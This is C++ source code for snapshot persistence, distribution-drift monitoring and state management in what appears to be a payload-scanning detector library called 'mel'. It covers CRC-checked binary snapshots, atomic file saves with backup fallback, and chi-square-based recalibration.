          (static_cast<std::uint64_t>(high) << 32);
    return true;
  }

  [[nodiscard]] bool read_double(double& out) noexcept {
    std::uint64_t bits = 0;
    if (!read_u64(bits)) return false;
    out = std::bit_cast<double>(bits);
    return true;
  }

  [[nodiscard]] bool read_view(std::size_t size, util::ByteView& out) noexcept {
    if (remaining() < size) return false;
    out = bytes_.subspan(pos_, size);
    pos_ += size;
    return true;
  }

 private:
  util::ByteView bytes_;
  std::size_t pos_ = 0;
};

void append_section(util::ByteBuffer& out, std::uint32_t id,
                    const util::ByteBuffer& payload) {
  append_u32(out, id);
  append_u32(out, 0);  // flags
  append_u64(out, payload.size());
  append_u32(out, util::crc32c(payload));
  out.insert(out.end(), payload.begin(), payload.end());
}

util::Status corrupt(std::size_t offset, const std::string& what) {
  return util::Status::invalid_argument(
      "snapshot corrupt at byte " + std::to_string(offset) + ": " + what);
}

util::Status decode_calibration(util::ByteView payload,
                                PersistentState& state) {
  Reader reader(payload);
  if (!reader.read_double(state.tau) || !reader.read_double(state.n) ||
      !reader.read_double(state.p) ||
      !reader.read_u64(state.calibration_point_chars) ||
      !reader.read_u64(state.calibration_epoch) || reader.remaining() != 0) {
    return util::Status::invalid_argument(
        "snapshot calibration section has wrong size (" +
        std::to_string(payload.size()) + " bytes)");
  }
  // A snapshot that decodes is a *usable* state: non-finite or
  // out-of-domain calibration values would resurface as NaN thresholds
  // mid-scan, long after restore claimed success.
  if (!std::isfinite(state.tau) || state.tau < 0.0) {
    return util::Status::invalid_argument(
        "snapshot calibration tau is out of domain");
  }
  if (!std::isfinite(state.n) || state.n < 0.0 || !std::isfinite(state.p) ||
      state.p < 0.0 || state.p > 1.0) {
    return util::Status::invalid_argument(
        "snapshot calibration n/p is out of domain");
  }
  return util::Status::ok();
}

util::Status decode_cache_meta(util::ByteView payload, PersistentState& state) {
  Reader reader(payload);
  if (!reader.read_u64(state.cache.hits) ||
      !reader.read_u64(state.cache.misses) ||
      !reader.read_u64(state.cache.evictions) ||
      !reader.read_u64(state.cache.insertions) || reader.remaining() != 0) {
    return util::Status::invalid_argument(
        "snapshot cache-metadata section has wrong size (" +
        std::to_string(payload.size()) + " bytes)");
  }
  return util::Status::ok();
}

util::Status decode_drift_state(util::ByteView payload,
                                PersistentState& state) {
  Reader reader(payload);
  bool ok = reader.read_u64(state.drift.window_payloads) &&
            reader.read_u64(state.drift.windows_checked) &&
            reader.read_u64(state.drift.drifts_detected);
  for (std::size_t b = 0; ok && b < 256; ++b) {
    ok = reader.read_u64(state.drift.window_counts[b]);
  }
  if (!ok || reader.remaining() != 0) {
    return util::Status::invalid_argument(
        "snapshot drift-state section has wrong size (" +
        std::to_string(payload.size()) + " bytes)");
  }
  return util::Status::ok();
}

}  // namespace

util::ByteBuffer encode_snapshot(const PersistentState& state) {
  // Sections are emitted in fixed id order, so equal states always
  // produce identical bytes (the round-trip fixpoint tests rely on it).
  util::ByteBuffer config_payload =
      util::to_bytes(core::serialize_config(state.detector));

  util::ByteBuffer calibration;
  append_double(calibration, state.tau);
  append_double(calibration, state.n);
  append_double(calibration, state.p);
  append_u64(calibration, state.calibration_point_chars);
  append_u64(calibration, state.calibration_epoch);

  util::ByteBuffer cache_meta;
  append_u64(cache_meta, state.cache.hits);
  append_u64(cache_meta, state.cache.misses);
  append_u64(cache_meta, state.cache.evictions);
  append_u64(cache_meta, state.cache.insertions);

  util::ByteBuffer drift;
  append_u64(drift, state.drift.window_payloads);
  append_u64(drift, state.drift.windows_checked);
  append_u64(drift, state.drift.drifts_detected);
  for (std::uint64_t count : state.drift.window_counts) {
    append_u64(drift, count);
  }

  util::ByteBuffer out;
  out.reserve(kHeaderBytes + 4 * kSectionHeaderBytes + config_payload.size() +
              calibration.size() + cache_meta.size() + drift.size());
  for (std::uint8_t byte : kSnapshotMagic) out.push_back(byte);
  append_u32(out, kSnapshotFormatVersion);
  append_u32(out, 4);  // section count
  append_u32(out, util::crc32c(util::ByteView(out).first(16)));

  append_section(out, kSectionDetectorConfig, config_payload);
  append_section(out, kSectionCalibration, calibration);
  append_section(out, kSectionCacheMeta, cache_meta);
  append_section(out, kSectionDriftState, drift);
  return out;
}

util::StatusOr<PersistentState> decode_snapshot(util::ByteView bytes) {
  if (bytes.size() > kMaxSnapshotBytes) {
    return util::Status::invalid_argument(
        "snapshot is " + std::to_string(bytes.size()) +
        " bytes; the cap is " + std::to_string(kMaxSnapshotBytes));
  }
  if (bytes.size() < kHeaderBytes) {
    return corrupt(bytes.size(), "truncated before the header ended");
  }
  for (std::size_t i = 0; i < kSnapshotMagic.size(); ++i) {
    if (bytes[i] != kSnapshotMagic[i]) {
      return corrupt(i, "bad magic (not a MELSNAP1 snapshot)");
    }
  }
  Reader reader(bytes);
  util::ByteView header_prefix;
  (void)reader.read_view(16, header_prefix);  // magic + version + count.
  Reader header_reader(header_prefix.subspan(8));
  std::uint32_t version = 0;
  std::uint32_t section_count = 0;
  (void)header_reader.read_u32(version);
  (void)header_reader.read_u32(section_count);
  std::uint32_t header_crc = 0;
  (void)reader.read_u32(header_crc);
  if (util::crc32c(header_prefix) != header_crc) {
    return corrupt(16, "header CRC mismatch");
  }
  if (version != kSnapshotFormatVersion) {
    return util::Status::invalid_argument(
        "snapshot format version " + std::to_string(version) +
        " is not supported (this build reads version " +
        std::to_string(kSnapshotFormatVersion) + ")");
  }

  PersistentState state;
  bool saw_config = false;
  bool saw_calibration = false;
  for (std::uint32_t section = 0; section < section_count; ++section) {
    const std::size_t section_start = reader.position();
    std::uint32_t id = 0;
    std::uint32_t flags = 0;
    std::uint64_t payload_size = 0;
    std::uint32_t payload_crc = 0;
    if (!reader.read_u32(id) || !reader.read_u32(flags) ||
        !reader.read_u64(payload_size) || !reader.read_u32(payload_crc)) {
      return corrupt(section_start, "truncated section header");
    }
    if (flags != 0) {
      return corrupt(section_start, "unsupported section flags " +
                                        std::to_string(flags));
    }
    if (payload_size > reader.remaining()) {
      return corrupt(section_start,
                     "section " + std::to_string(id) + " declares " +
                         std::to_string(payload_size) + " payload bytes but " +
                         std::to_string(reader.remaining()) + " remain");
    }
    util::ByteView payload;
    (void)reader.read_view(static_cast<std::size_t>(payload_size), payload);
    if (util::crc32c(payload) != payload_crc) {
      return corrupt(section_start,
                     "section " + std::to_string(id) + " CRC mismatch");
    }
    switch (id) {
      case kSectionDetectorConfig: {
        util::StatusOr<core::DetectorConfig> config =
            core::parse_config_checked(std::string_view(
                reinterpret_cast<const char*>(payload.data()),
                payload.size()));
        if (!config.is_ok()) {
          return util::Status(config.code(),
                              "snapshot detector-config section: " +
                                  config.status().message());
        }
        state.detector = std::move(config).take();
        saw_config = true;
        break;
      }
      case kSectionCalibration: {
        if (util::Status status = decode_calibration(payload, state);
            !status.is_ok()) {
          return status;
        }
        saw_calibration = true;
        break;
      }
      case kSectionCacheMeta: {
        if (util::Status status = decode_cache_meta(payload, state);
            !status.is_ok()) {
          return status;
        }
        break;
      }
      case kSectionDriftState: {
        if (util::Status status = decode_drift_state(payload, state);
            !status.is_ok()) {
          return status;
        }
        break;
      }
      default:
        // Unknown id with a valid CRC: a newer writer within this format
        // version added a section. Skip it (forward compatibility).
        break;
    }
  }
  if (reader.remaining() != 0) {
    return corrupt(reader.position(), "trailing bytes after the last section");
  }
  if (!saw_config || !saw_calibration) {
    return util::Status::invalid_argument(
        "snapshot is missing a required section (detector config and "
        "calibration are mandatory)");
  }
  return state;
}

}  // namespace mel::persist
