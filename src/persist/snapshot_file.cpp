#include "mel/persist/snapshot_file.hpp"

#include <cerrno>
#include <cstdio>
#include <cstring>

#include "mel/util/fault_injection.hpp"
#include "mel/util/logging.hpp"

#if defined(__unix__) || defined(__APPLE__)
#include <unistd.h>
#define MEL_PERSIST_HAVE_FSYNC 1
#endif

namespace mel::persist {

namespace {

using util::fault::Point;

std::string errno_detail() {
  return std::strerror(errno) != nullptr ? std::strerror(errno) : "I/O error";
}

/// fwrite with the short-write and write-failure fault points threaded
/// in. Returns the byte count actually persisted.
std::size_t checked_write(std::FILE* file, util::ByteView bytes) {
  if (util::fault::should_fire(Point::kFsWriteFailure)) return 0;
  util::ByteView to_write = bytes;
  if (util::fault::should_fire(Point::kFsShortWrite) && bytes.size() > 1) {
    to_write = bytes.first(bytes.size() / 2);
  }
  const std::size_t written =
      std::fwrite(to_write.data(), 1, to_write.size(), file);
  // An injected short write wrote what it wrote — report it so the
  // caller sees a partial persist exactly as ENOSPC would look.
  return written;
}

bool checked_sync(std::FILE* file) {
  if (util::fault::should_fire(Point::kFsSyncFailure)) return false;
  if (std::fflush(file) != 0) return false;
#if defined(MEL_PERSIST_HAVE_FSYNC)
  if (fsync(fileno(file)) != 0) return false;
#endif
  return true;
}

bool checked_rename(const std::string& from, const std::string& to) {
  if (util::fault::should_fire(Point::kFsRenameFailure)) return false;
  return std::rename(from.c_str(), to.c_str()) == 0;
}

bool file_exists(const std::string& path) {
  std::FILE* file = std::fopen(path.c_str(), "rb");
  if (file == nullptr) return false;
  std::fclose(file);
  return true;
}

}  // namespace

util::Status save_snapshot(const PersistentState& state,
                           const std::string& path) {
  const util::ByteBuffer bytes = encode_snapshot(state);
  const std::string tmp_path = path + ".tmp";
  const std::string bak_path = path + ".bak";

  std::FILE* file = std::fopen(tmp_path.c_str(), "wb");
  if (file == nullptr) {
    return util::Status::resource_exhausted(
        "cannot open snapshot temp file " + tmp_path + ": " + errno_detail());
  }
  const std::size_t written = checked_write(file, bytes);
  const bool synced = written == bytes.size() && checked_sync(file);
  std::fclose(file);
  if (!synced) {
    // The temp file is torn or unsynced; remove it so a later restore
    // never considers it. The published snapshot is untouched.
    std::remove(tmp_path.c_str());
    return util::Status::resource_exhausted(
        written == bytes.size()
            ? "snapshot fsync failed for " + tmp_path
            : "snapshot write persisted only " + std::to_string(written) +
                  " of " + std::to_string(bytes.size()) + " bytes");
  }

  // Demote the current snapshot to .bak before publishing, so a crash
  // between the two renames still leaves one intact generation.
  if (file_exists(path) && !checked_rename(path, bak_path)) {
    std::remove(tmp_path.c_str());
    return util::Status::resource_exhausted(
        "cannot demote current snapshot to " + bak_path + ": " +
        errno_detail());
  }
  if (!checked_rename(tmp_path, path)) {
    // Torn-rename window: <path> may be absent now, but .bak holds the
    // previous generation — exactly what restore_snapshot falls back to.
    std::remove(tmp_path.c_str());
    return util::Status::resource_exhausted(
        "cannot publish snapshot to " + path + ": " + errno_detail() +
        " (previous generation remains at " + bak_path + ")");
  }
  return util::Status::ok();
}

util::StatusOr<PersistentState> load_snapshot(const std::string& path) {
  std::FILE* file = std::fopen(path.c_str(), "rb");
  if (file == nullptr) {
    return util::Status::resource_exhausted("cannot open snapshot " + path +
                                            ": " + errno_detail());
  }
  util::ByteBuffer bytes;
  std::uint8_t chunk[4096];
  std::size_t got = 0;
  while ((got = std::fread(chunk, 1, sizeof(chunk), file)) > 0) {
    bytes.insert(bytes.end(), chunk, chunk + got);
    if (bytes.size() > kMaxSnapshotBytes) {
      std::fclose(file);
      return util::Status::invalid_argument(
          "snapshot " + path + " exceeds the " +
          std::to_string(kMaxSnapshotBytes) + "-byte cap");
    }
  }
  const bool read_error = std::ferror(file) != 0;
  std::fclose(file);
  if (read_error) {
    return util::Status::resource_exhausted("read error on snapshot " + path);
  }
  return decode_snapshot(bytes);
}

std::string_view restore_source_name(RestoreSource source) noexcept {
  switch (source) {
    case RestoreSource::kPrimary:
      return "primary";
    case RestoreSource::kBackup:
      return "backup";
    case RestoreSource::kColdStart:
      return "cold_start";
  }
  return "cold_start";
}

RestoreResult restore_snapshot(const std::string& path,
                               PersistentState cold_start) {
  RestoreResult result;
  util::StatusOr<PersistentState> primary = load_snapshot(path);
  if (primary.is_ok()) {
    result.state = std::move(primary).take();
    result.source = RestoreSource::kPrimary;
    return result;
  }
  result.primary_status = primary.status();
  util::log_warn_ctx({.component = "persist"},
                     "snapshot restore: primary rejected: ",
                     result.primary_status.to_string());

  util::StatusOr<PersistentState> backup = load_snapshot(path + ".bak");
  if (backup.is_ok()) {
    result.state = std::move(backup).take();
    result.source = RestoreSource::kBackup;
    util::log_warn_ctx({.component = "persist"},
                       "snapshot restore: fell back to last-known-good ",
                       path + ".bak");
    return result;
  }
  result.backup_status = backup.status();
  util::log_warn_ctx({.component = "persist"},
                     "snapshot restore: backup rejected: ",
                     result.backup_status.to_string(),
                     "; cold-starting");
  result.state = std::move(cold_start);
  result.source = RestoreSource::kColdStart;
  return result;
}

}  // namespace mel::persist
