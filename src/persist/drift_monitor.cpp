#include "mel/persist/drift_monitor.hpp"

#include <string>
#include <vector>

#include "mel/stats/chi_square.hpp"
#include "mel/util/logging.hpp"

namespace mel::persist {

util::Status DriftMonitorConfig::validate() const {
  if (window_payloads == 0) {
    return util::Status::invalid_config(
        "DriftMonitorConfig::window_payloads must be >= 1");
  }
  if (!(significance > 0.0 && significance < 1.0)) {
    return util::Status::invalid_config(
        "DriftMonitorConfig::significance must lie in (0,1); got " +
        std::to_string(significance));
  }
  if (!(min_expected_per_bin > 0.0)) {
    return util::Status::invalid_config(
        "DriftMonitorConfig::min_expected_per_bin must be > 0");
  }
  if (!(zero_support_tolerance >= 0.0 && zero_support_tolerance <= 1.0)) {
    return util::Status::invalid_config(
        "DriftMonitorConfig::zero_support_tolerance must lie in [0,1]");
  }
  return util::Status::ok();
}

DriftMonitor::DriftMonitor(DriftMonitorConfig config) : config_(config) {}

util::StatusOr<std::shared_ptr<DriftMonitor>> DriftMonitor::create(
    DriftMonitorConfig config) {
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  return std::shared_ptr<DriftMonitor>(new DriftMonitor(config));
}

void DriftMonitor::set_baseline(const core::CharFrequencyTable& baseline) {
  std::lock_guard<std::mutex> lock(check_mutex_);
  baseline_ = baseline;
  baseline_set_ = true;
}

void DriftMonitor::set_on_drift(DriftCallback callback) {
  std::lock_guard<std::mutex> lock(check_mutex_);
  on_drift_ = std::move(callback);
}

void DriftMonitor::observe(util::ByteView payload) {
  for (std::uint8_t byte : payload) {
    counts_[byte].fetch_add(1, std::memory_order_relaxed);
  }
  const std::uint64_t seen =
      window_payloads_.fetch_add(1, std::memory_order_acq_rel) + 1;
  if (seen % config_.window_payloads == 0) {
    close_window();
  }
}

void DriftMonitor::close_window() {
  // The callback is invoked AFTER the lock is released: it recalibrates
  // and calls back into set_baseline(), which takes check_mutex_ too.
  DriftCallback callback;
  core::CharFrequencyTable distribution{};
  std::uint64_t window_chars = 0;

  {
    std::lock_guard<std::mutex> lock(check_mutex_);
    if (!baseline_set_) return;

    // Snapshot the window. Counts from payloads racing this boundary
    // land on whichever side their increments reached first — windows
    // are a cadence, not an exact partition (see the header).
    std::array<std::uint64_t, 256> observed{};
    std::uint64_t total = 0;
    for (std::size_t b = 0; b < 256; ++b) {
      observed[b] = counts_[b].load(std::memory_order_relaxed);
      total += observed[b];
    }
    window_chars_gauge_.set(static_cast<std::int64_t>(total));
    if (total < config_.min_window_chars) {
      return;  // Starved window: keep accumulating, test at next close.
    }

    // Reset for the next window before the (possibly slow) test.
    for (auto& counter : counts_) {
      counter.store(0, std::memory_order_relaxed);
    }
    windows_checked_.fetch_add(1, std::memory_order_relaxed);
    windows_counter_.inc();

    // Partition the byte values: baseline-supported bytes with an
    // expected count >= min_expected_per_bin get their own chi-square
    // bin, the rest of the supported bytes pool into one rare bin, and
    // observed mass on zero-probability bytes is a support change the
    // test cannot express — beyond tolerance it is drift by itself.
    std::vector<std::uint64_t> bin_observed;
    std::vector<double> bin_probability;
    std::uint64_t rare_observed = 0;
    double rare_probability = 0.0;
    std::uint64_t zero_support = 0;
    for (std::size_t b = 0; b < 256; ++b) {
      const double probability = baseline_[b];
      if (probability <= 0.0) {
        zero_support += observed[b];
        continue;
      }
      if (probability * static_cast<double>(total) >=
          config_.min_expected_per_bin) {
        bin_observed.push_back(observed[b]);
        bin_probability.push_back(probability);
      } else {
        rare_observed += observed[b];
        rare_probability += probability;
      }
    }

    bool drift = false;
    std::string cause;
    const double zero_fraction =
        static_cast<double>(zero_support) / static_cast<double>(total);
    if (zero_fraction > config_.zero_support_tolerance) {
      drift = true;
      cause = "support change: " + std::to_string(zero_fraction * 100.0) +
              "% of window mass on bytes outside the calibrated "
              "distribution";
    } else if (bin_observed.size() >= 2) {
      if (rare_probability > 0.0 &&
          rare_probability * static_cast<double>(total) >=
              config_.min_expected_per_bin) {
        bin_observed.push_back(rare_observed);
        bin_probability.push_back(rare_probability);
      }
      // Renormalize over the tested bins: sub-tolerance zero-support
      // mass and an unpoolable rare remainder sit outside the test.
      std::uint64_t tested_total = 0;
      double tested_probability = 0.0;
      for (std::uint64_t count : bin_observed) tested_total += count;
      for (double probability : bin_probability) {
        tested_probability += probability;
      }
      if (tested_total > 0 && tested_probability > 0.0) {
        for (double& probability : bin_probability) {
          probability /= tested_probability;
        }
        const stats::ChiSquareResult result =
            stats::chi_square_goodness_of_fit(bin_observed, bin_probability);
        if (result.p_value < config_.significance) {
          drift = true;
          cause =
              "chi-square rejected: X2=" + std::to_string(result.statistic) +
              " df=" + std::to_string(result.degrees_of_freedom) +
              " p=" + std::to_string(result.p_value);
        }
      }
    }

    if (!drift) return;
    drifts_detected_.fetch_add(1, std::memory_order_relaxed);
    drifts_counter_.inc();
    util::log_warn_ctx({.component = "persist"},
                       "distribution drift detected (", cause,
                       "); window of ", total, " chars");
    if (on_drift_) {
      for (std::size_t b = 0; b < 256; ++b) {
        distribution[b] =
            static_cast<double>(observed[b]) / static_cast<double>(total);
      }
      window_chars = total;
      callback = on_drift_;
    }
  }

  if (callback) callback(distribution, window_chars);
}

DriftState DriftMonitor::state() const {
  std::lock_guard<std::mutex> lock(check_mutex_);
  DriftState state;
  for (std::size_t b = 0; b < 256; ++b) {
    state.window_counts[b] = counts_[b].load(std::memory_order_relaxed);
  }
  state.window_payloads =
      window_payloads_.load(std::memory_order_relaxed) %
      config_.window_payloads;
  state.windows_checked = windows_checked_.load(std::memory_order_relaxed);
  state.drifts_detected = drifts_detected_.load(std::memory_order_relaxed);
  return state;
}

void DriftMonitor::restore(const DriftState& state) {
  std::lock_guard<std::mutex> lock(check_mutex_);
  for (std::size_t b = 0; b < 256; ++b) {
    counts_[b].store(state.window_counts[b], std::memory_order_relaxed);
  }
  window_payloads_.store(state.window_payloads, std::memory_order_relaxed);
  windows_checked_.store(state.windows_checked, std::memory_order_relaxed);
  drifts_detected_.store(state.drifts_detected, std::memory_order_relaxed);
}

void DriftMonitor::bind_metrics(obs::MetricsRegistry& registry) {
  windows_counter_ = registry.counter("mel_drift_windows_checked_total",
                                      "Drift windows tested.");
  drifts_counter_ = registry.counter("mel_drift_detected_total",
                                     "Drift detections (recalibrations).");
  window_chars_gauge_ = registry.gauge(
      "mel_drift_window_chars", "Characters in the last closed window.");
}

}  // namespace mel::persist
