#include "mel/persist/state_manager.hpp"

#include <utility>

#include "mel/util/logging.hpp"

namespace mel::persist {

StateManager::StateManager(StateManagerConfig config,
                           std::shared_ptr<VerdictCache> cache,
                           std::shared_ptr<DriftMonitor> drift)
    : config_(std::move(config)),
      cache_(std::move(cache)),
      drift_(std::move(drift)) {}

util::StatusOr<std::shared_ptr<StateManager>> StateManager::create(
    StateManagerConfig config, PersistentState cold_start,
    std::shared_ptr<VerdictCache> cache, std::shared_ptr<DriftMonitor> drift) {
  if (config.default_anchor_chars == 0) {
    return util::Status::invalid_config(
        "StateManagerConfig::default_anchor_chars must be >= 1");
  }
  std::shared_ptr<StateManager> manager(
      new StateManager(std::move(config), std::move(cache), std::move(drift)));

  if (manager->config_.snapshot_path.empty()) {
    manager->restore_.state = std::move(cold_start);
    manager->restore_.source = RestoreSource::kColdStart;
  } else {
    manager->restore_ = restore_snapshot(manager->config_.snapshot_path,
                                         std::move(cold_start));
  }
  manager->state_ = manager->restore_.state;
  manager->epoch_.store(manager->state_.calibration_epoch,
                        std::memory_order_release);
  util::log_info_ctx({.component = "persist"}, "state restore: source=",
                     restore_source_name(manager->restore_.source),
                     " epoch=", manager->state_.calibration_epoch,
                     " tau=", manager->state_.tau);

  if (manager->cache_) {
    manager->cache_->set_epoch(manager->state_.calibration_epoch);
    manager->cache_->restore_metadata(manager->state_.cache);
  }
  if (manager->drift_) {
    manager->drift_->restore(manager->state_.drift);
    if (manager->state_.detector.preset_frequencies.has_value()) {
      manager->drift_->set_baseline(*manager->state_.detector
                                         .preset_frequencies);
    }
    // weak_ptr: the monitor outliving the manager must not fire into a
    // destroyed object, and a shared capture would cycle (manager owns
    // the monitor, the monitor's callback would own the manager).
    std::weak_ptr<StateManager> weak = manager;
    manager->drift_->set_on_drift(
        [weak](const core::CharFrequencyTable& observed,
               std::uint64_t window_chars) {
          if (std::shared_ptr<StateManager> self = weak.lock()) {
            self->handle_drift(observed, window_chars);
          }
        });
  }
  return manager;
}

void StateManager::set_apply_calibration(ApplyCalibration apply) {
  std::lock_guard<std::mutex> lock(state_mutex_);
  apply_ = std::move(apply);
}

PersistentState StateManager::current() const {
  PersistentState state;
  {
    std::lock_guard<std::mutex> lock(state_mutex_);
    state = state_;
  }
  if (cache_) state.cache = cache_->metadata();
  if (drift_) state.drift = drift_->state();
  return state;
}

util::Status StateManager::save() {
  if (config_.snapshot_path.empty()) return util::Status::ok();
  const PersistentState state = current();
  util::Status status;
  {
    std::lock_guard<std::mutex> lock(io_mutex_);
    status = save_snapshot(state, config_.snapshot_path);
  }
  if (status.is_ok()) {
    save_counter_.inc();
  } else {
    save_failures_.fetch_add(1, std::memory_order_relaxed);
    save_failure_counter_.inc();
    util::log_warn_ctx({.component = "persist"},
                       "snapshot save failed: ", status.to_string());
  }
  return status;
}

void StateManager::handle_drift(const core::CharFrequencyTable& observed,
                                std::uint64_t window_chars) {
  std::uint64_t anchor = 0;
  {
    std::lock_guard<std::mutex> lock(state_mutex_);
    anchor = state_.calibration_point_chars != 0
                 ? state_.calibration_point_chars
                 : config_.default_anchor_chars;
  }
  util::StatusOr<core::RecalibrationResult> recal =
      core::recalibrate_from_frequencies(
          observed, static_cast<std::size_t>(anchor), config_.calibrator);
  if (!recal.is_ok()) {
    recalibration_failures_.fetch_add(1, std::memory_order_relaxed);
    recal_failure_counter_.inc();
    util::log_warn_ctx({.component = "persist"},
                       "drift recalibration rejected (keeping previous "
                       "calibration): ",
                       recal.status().to_string());
    return;
  }
  const core::RecalibrationResult result = std::move(recal).take();

  std::uint64_t new_epoch = 0;
  {
    std::lock_guard<std::mutex> lock(state_mutex_);
    if (apply_) {
      util::Status applied = apply_(result.config, result.tau);
      if (!applied.is_ok()) {
        recalibration_failures_.fetch_add(1, std::memory_order_relaxed);
        recal_failure_counter_.inc();
        util::log_warn_ctx({.component = "persist"},
                           "recalibration vetoed by apply hook (keeping "
                           "previous calibration): ",
                           applied.to_string());
        return;
      }
    }
    state_.detector = result.config;
    state_.tau = result.tau;
    state_.n = result.params.n;
    state_.p = result.params.p;
    state_.calibration_point_chars = anchor;
    new_epoch = ++state_.calibration_epoch;
  }
  epoch_.store(new_epoch, std::memory_order_release);
  epoch_gauge_.set(static_cast<std::int64_t>(new_epoch));
  recalibrations_.fetch_add(1, std::memory_order_relaxed);
  recal_counter_.inc();

  // Order matters: the serving detector already switched (apply hook),
  // so invalidate cached verdicts from the old calibration BEFORE any
  // new inserts could land under the old epoch.
  if (cache_) cache_->set_epoch(new_epoch);
  if (drift_ && result.config.preset_frequencies.has_value()) {
    drift_->set_baseline(*result.config.preset_frequencies);
  }

  util::log_info_ctx({.component = "persist"},
                     "drift recalibration installed: epoch=", new_epoch,
                     " tau=", result.tau, " n=", result.params.n,
                     " p=", result.params.p, " window_chars=", window_chars);
  (void)save();  // Best-effort; failures are counted and logged above.
}

util::Status StateManager::reapply() {
  std::lock_guard<std::mutex> lock(state_mutex_);
  if (!apply_) return util::Status::ok();
  return apply_(state_.detector, state_.tau);
}

void StateManager::bind_metrics(obs::MetricsRegistry& registry) {
  recal_counter_ = registry.counter("mel_state_recalibrations_total",
                                    "Drift recalibrations installed.");
  recal_failure_counter_ =
      registry.counter("mel_state_recalibration_failures_total",
                       "Drift recalibrations rejected or vetoed.");
  save_counter_ = registry.counter("mel_state_snapshot_saves_total",
                                   "Snapshots published atomically.");
  save_failure_counter_ =
      registry.counter("mel_state_snapshot_save_failures_total",
                       "Snapshot writes that failed (previous kept).");
  epoch_gauge_ = registry.gauge("mel_state_calibration_epoch",
                                "Current calibration epoch.");
}

}  // namespace mel::persist
